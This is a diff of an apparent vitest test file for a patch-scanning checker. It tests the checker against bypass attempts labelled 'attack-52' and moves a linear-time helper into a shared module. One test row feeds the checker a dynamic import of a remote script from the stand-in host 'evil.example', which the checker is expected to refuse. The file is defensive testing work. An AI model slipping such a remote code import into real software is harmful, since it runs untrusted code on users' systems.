@@ -1,7 +1,5 @@
-import { describe, expect, it } from 'vitest';
-import { checkPatch } from '../../shared/analysis/index.js';
-import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
-import { describeAccepted, describeFindings, expectAccepted, expectRefused, patchAdding, type FindingRow } from '../support/patches.js';
+import { describe, it } from 'vitest';
+import { checksInLinearTime, describeAccepted, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';
 
 /**
  * Attack 52 (session 49, an attacker's pass on the readings session 49 added on s49-attack51): names across lines, more
@@ -295,11 +293,6 @@ describe('attack-52: refused beside the closed false refusals and bypasses', () 
     ['src/load.ts', "const u: URL | string = 'https://evil.example/x.js';\nawait import(u)"],
   ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
 });
-
-/** Asserts that the whole check's time grows linearly over texts repeating `unit` added to `path`. */
-function checksInLinearTime(path: string, _reading: string, unit: string): void {
-  expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
-}
 
 describe('attack-52: the new readings in linear time', () => {
   it.each([
